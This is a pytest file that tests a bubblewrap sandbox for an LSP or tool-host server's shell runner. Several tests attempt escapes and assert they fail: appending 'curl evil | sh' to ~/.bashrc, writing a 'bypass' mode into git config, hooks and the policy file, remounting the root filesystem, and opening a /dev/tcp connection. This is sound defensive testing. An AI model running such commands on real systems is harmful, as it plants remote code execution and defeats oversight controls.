"""Commands under real bubblewrap, through the runner and the job manager."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import attrs
import pytest

from lsp_server.sandbox.bubblewrap import BubblewrapLayout
from lsp_server.shell.jobs import JobManager
from lsp_server.shell.runner import RunLimits, run_command
from tests.shell.procs import processes_with_marker, wait_gone

LIMITS = RunLimits(timeout_seconds=60, kill_grace_seconds=1.0, pipe_wait_seconds=2.0)


def _root(layout: BubblewrapLayout) -> Path:
    return layout.roots[0]


async def _run(layout: BubblewrapLayout, command: str, cwd: Path | None = None, **kw: object):  # type: ignore[no-untyped-def]
    return await run_command(command, cwd or _root(layout), LIMITS, launcher=layout, **kw)  # type: ignore[arg-type]


async def test_writes_in_the_workspace_and_nowhere_else(layout: BubblewrapLayout) -> None:
    root = _root(layout)
    result = await _run(layout, "echo x > made.txt && echo done")
    assert result.exit_code == 0, result.output
    assert (root / "made.txt").read_text() == "x\n"
    outside = Path("/var/tmp") / f"toolhost-sandbox-test-{root.name}"
    result = await _run(layout, f"echo x > {outside}")
    assert result.exit_code != 0
    assert "Read-only file system" in result.output
    assert not outside.exists()


async def test_no_capabilities_to_remount_the_filesystem(layout: BubblewrapLayout) -> None:
    outside = Path("/var/tmp") / f"toolhost-remount-test-{_root(layout).name}"
    result = await _run(layout, f"mount -o remount,bind,rw / && touch {outside}")
    assert result.exit_code != 0
    assert not outside.exists()
    result = await _run(layout, "grep CapEff /proc/self/status")
    assert result.output.split() == ["CapEff:", "0000000000000000"]


async def test_git_folder_and_workspace_config_stay_read_only(layout: BubblewrapLayout) -> None:
    root = _root(layout)
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / ".toolhost.toml").write_text("[policy]\n")
    before = (root / ".git" / "config").read_bytes()
    for target in (".git/config", ".git/hooks/pre-commit", ".toolhost.toml"):
        result = await _run(layout, f"echo 'mode = \"bypass\"' >> {target}")
        assert result.exit_code != 0, target
        assert "Read-only file system" in result.output
    assert (root / ".git" / "config").read_bytes() == before
    assert (root / ".toolhost.toml").read_text() == "[policy]\n"
    assert not (root / ".git" / "hooks" / "pre-commit").exists()


async def test_home_outside_the_workspace_is_read_only(
    layout: BubblewrapLayout, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    # The service keeps a home under /tmp visible over the private /tmp, read-only.
    visible = attrs.evolve(layout, under_tmp=(home,))
    result = await _run(visible, "cat ~/.bashrc; echo 'curl evil | sh' >> ~/.bashrc")
    assert result.output.startswith("# mine\n")
    assert result.exit_code != 0
    assert "Read-only file system" in result.output
    assert (home / ".bashrc").read_text() == "# mine\n"


async def test_private_tmp(layout: BubblewrapLayout, tmp_path: Path) -> None:
    seen = tmp_path / "seen-from-outside"
    seen.write_text("host\n")
    result = await _run(layout, f"cat {seen}; echo private > /tmp/scratch && cat /tmp/scratch")
    # The host's /tmp is not visible (the workspace under it is re-bound); /tmp is writable.
    assert "No such file or directory" in result.output
    assert result.output.endswith("private\n")
    assert not Path("/tmp/scratch").exists() or Path("/tmp/scratch").read_text() != "private\n"


async def test_read_only_mode_writes_nothing(layout: BubblewrapLayout) -> None:
    read_only = attrs.evolve(layout, writable=False)
    result = await _run(read_only, "ls; echo x > made.txt")
    assert result.exit_code != 0
    assert "Read-only file system" in result.output
    assert not (_root(layout) / "made.txt").exists()


_CONNECT = "exec 3<>/dev/tcp/127.0.0.1/{port} && head -1 <&3"


async def test_loopback_listener_unreachable_without_network(
    layout: BubblewrapLayout, loopback_listener: int
) -> None:
    result = await _run(layout, _CONNECT.format(port=loopback_listener))
    assert result.exit_code != 0
    assert "reached" not in result.output
    assert "Connection refused" in result.output


async def test_loopback_listener_reachable_with_network(
    layout: BubblewrapLayout, loopback_listener: int
) -> None:
    networked = attrs.evolve(layout, network=True)
    result = await _run(networked, _CONNECT.format(port=loopback_listener))
    assert result.exit_code == 0, result.output
    assert result.output == "reached\n"


async def test_final_folder_and_exit_code_inside(layout: BubblewrapLayout) -> None:
    root = _root(layout)
    (root / "sub").mkdir()
    result = await _run(layout, "cd sub && exit 3")
    assert result.exit_code == 3
    assert result.final_cwd == root / "sub"


@pytest.mark.timeout(60)
async def test_leftovers_are_named_and_die_with_the_namespace(layout: BubblewrapLayout) -> None:
    marker = f"sandbox-leftover-{_root(layout).name}"
    result = await _run(
        layout,
        "sleep 971.0 & (sleep 971.1 >/dev/null 2>&1 &); env -i setsid sleep 971.2 >/dev/null 2>&1 &"
        # Until all three have started (pgrep sees the namespace only).
        " until [ $(pgrep -c -x sleep) = 3 ]; do :; done; echo started",
        marker=marker,
    )
    assert result.output == "started\n"
    assert result.leftovers_killed
    commands = sorted(p.command for p in result.leftovers)
    assert commands == ["setsid sleep 971.2", "sleep 971.0", "sleep 971.1"] or commands == [
        "sleep 971.0",
        "sleep 971.1",
        "sleep 971.2",
    ]
    # `env -i` dropped the marker; the namespace still took it: nothing runs `sleep 10x`.
    # The kernel tears a namespace down after its init dies: a killed process can still be
    # finishing its exit for a moment (bounded wait, not a timing assertion).
    assert await wait_gone(processes_with_marker(marker)) == []
    assert _sleepers(("971.0", "971.1", "971.2")) == []


def _sleepers(seconds: tuple[str, ...]) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().split(b"\0")
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if (
            state not in "ZX"
            and argv[:1] == [b"sleep"]
            and argv[1:2]
            and argv[1].decode() in seconds
        ):
            found.append(int(entry.name))
    return found


@pytest.mark.timeout(60)
async def test_timeout_kills_the_sandbox(layout: BubblewrapLayout) -> None:
    marker = f"sandbox-timeout-{_root(layout).name}"
    limits = RunLimits(timeout_seconds=1.0, kill_grace_seconds=0.5)
    result = await run_command(
        "trap '' TERM; echo partial; sleep 300",
        _root(layout),
        limits,
        launcher=layout,
        marker=marker,
    )
    assert result.timed_out
    assert "partial" in result.output
    assert await _gone(marker)


async def _gone(marker: str) -> bool:
    import asyncio

    loop = asyncio.get_running_loop()
    deadline = loop.time() + 10
    while processes_with_marker(marker):
        if loop.time() > deadline:
            return False
        await asyncio.sleep(0.05)
    return True


# -- the shell traps hold inside the sandbox --------------------------------------------


async def test_read_and_input_do_not_wait(layout: BubblewrapLayout) -> None:
    result = await _run(layout, "read line; echo rc=$?")
    assert result.output == "rc=1\n"
    result = await _run(layout, f"{sys.executable} -c 'input()'")
    assert result.exit_code == 1
    assert "EOFError" in result.output


async def test_pagers_print_instead_of_waiting(layout: BubblewrapLayout) -> None:
    root = _root(layout)
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    result = await _run(layout, "git -c core.pager=less log --oneline; git help -a | head -3")
    assert result.exit_code == 0, result.output
    assert "ESC[" not in result.output


@pytest.mark.timeout(60)
async def test_git_editor_and_credential_prompts_fail_at_once(
    layout: BubblewrapLayout, loopback_listener: int
) -> None:
    # A repository deeper than the sandbox looks for protected names (a .git at the top or
    # one folder down is read-only): git gets as far as asking for a message.
    repo = _root(layout) / "deep" / "er" / "repo"
    for args in (
        ["init", "-q", str(repo)],
        ["-C", str(repo), "config", "user.name", "Test"],
        ["-C", str(repo), "config", "user.email", "test@example.invalid"],
    ):
        subprocess.run(["git", *args], check=True)
    (repo / "a.txt").write_text("a\n")
    subprocess.run(["git", "-C", str(repo), "add", "a.txt"], check=True)
    result = await _run(layout, "git commit", cwd=repo)
    assert result.exit_code != 0
    assert "empty commit message" in result.output
    # With the network allowed, a remote that asks for a password gets none.
    networked = attrs.evolve(layout, network=True)
    result = await run_command(
        f"git push http://127.0.0.1:{loopback_listener}/r.git HEAD",
        repo,
        LIMITS,
        launcher=networked,
    )
    assert result.exit_code != 0


@pytest.mark.timeout(120)
def test_200_megabytes_of_output_inside(layout: BubblewrapLayout) -> None:
    script = (
        "import asyncio, sys\n"
        "from pathlib import Path\n"
        "from lsp_server.sandbox.bubblewrap import BubblewrapLayout\n"
        "from lsp_server.shell.runner import RunLimits, run_command\n"
        "root = Path(sys.argv[1])\n"
        "layout = BubblewrapLayout(bwrap=sys.argv[2], roots=(root,), writable=True)\n"
        "r = asyncio.run(run_command('yes | head -c 200000000', root,"
        " RunLimits(timeout_seconds=100), launcher=layout))\n"
        "print(r.exit_code, r.total_bytes, r.dropped_bytes, len(r.output))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(_root(layout)), layout.bwrap],
        capture_output=True,
        text=True,
        check=True,
    )
    exit_code, total, dropped, length = (int(v) for v in done.stdout.split())
    assert (exit_code, total) == (0, 200_000_000)
    assert dropped == 200_000_000 - 8 * 1024 * 1024
    assert length < 9 * 1024 * 1024


# -- background jobs -----------------------------------------------------------------------


@pytest.mark.timeout(60)
async def test_background_job_runs_in_the_sandbox_and_its_leftovers_die(
    layout: BubblewrapLayout,
) -> None:
    manager = JobManager()
    job = await manager.start(
        "echo x > job.txt; touch /var/tmp/toolhost-job-$$ || echo refused; setsid sleep 971.3 &"
        " until pgrep -x sleep >/dev/null; do :; done; echo up",
        _root(layout),
        "s1",
        LIMITS,
        launcher=layout,
    )
    assert await manager.wait(job, "s1", 30, None)
    text = manager.read(job, "s1").text
    assert "refused" in text
    assert (_root(layout) / "job.txt").exists()
    assert job.exit_code == 0
    assert "sleep 971.3" in job.note
    assert _sleepers(("971.3",)) == []


@pytest.mark.timeout(60)
async def test_killing_a_sandboxed_job(layout: BubblewrapLayout) -> None:
    manager = JobManager()
    job = await manager.start(
        "env -i setsid sleep 971.4 & sleep 971.5", _root(layout), "s1", LIMITS, launcher=layout
    )
    assert job.pid is not None
    assert await manager.kill(job, "test")
    assert await wait_gone([job.pid]) == []
    assert _sleepers(("971.4", "971.5")) == []


# -- approved to run outside: the host's filesystem and network, still one PID namespace --


@pytest.mark.timeout(60)
async def test_outside_the_sandbox_writes_anywhere_but_nothing_outlives_it(
    layout: BubblewrapLayout, tmp_path: Path
) -> None:
    outside = attrs.evolve(layout, confined=False)
    target = tmp_path / "outside.txt"  # a host /tmp path: not hidden by a private /tmp
    result = await _run(
        outside,
        f"echo x > {target}; env -i setsid sleep 971.6 >/dev/null 2>&1 &"
        " until pgrep -x sleep >/dev/null; do :; done; echo done",
    )
    assert result.exit_code == 0, result.output
    assert target.read_text() == "x\n"
    assert [p.command for p in result.leftovers] in (["sleep 971.6"], ["setsid sleep 971.6"])
    assert _sleepers(("971.6",)) == []
